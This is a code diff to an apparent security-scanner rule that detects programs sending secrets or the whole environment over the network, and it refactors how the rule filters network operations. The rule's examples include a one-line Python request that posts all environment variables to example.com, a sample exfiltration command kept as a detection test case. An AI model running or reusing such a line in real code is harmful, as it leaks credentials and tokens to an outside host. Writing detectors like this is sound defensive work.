@@ -10,7 +10,7 @@ __all__ = ["RULE"]
 
 
 def _check(fact: NetUse, _scene: Scene) -> Hit | None:
-    if fact.op not in ("send", "fetch", "connect") or not fact.data.taints & {"secret", "env-all"}:
+    if not fact.data.taints & {"secret", "env-all"}:
         return None
     what = "the environment" if "env-all" in fact.data.taints else "sensitive files"
     return Hit(f"sends {what} to {shown(known_text(fact.target)) or 'another machine'}")
@@ -25,6 +25,7 @@ RULE = Rule(
     confidence="high",
     capabilities=("net",),
     facts=(NetUse,),
+    only={NetUse: ("fetch", "send", "connect")},
     check=_check,
     examples={
         "python": "import os, requests\nrequests.post('https://example.com', json=dict(os.environ))",
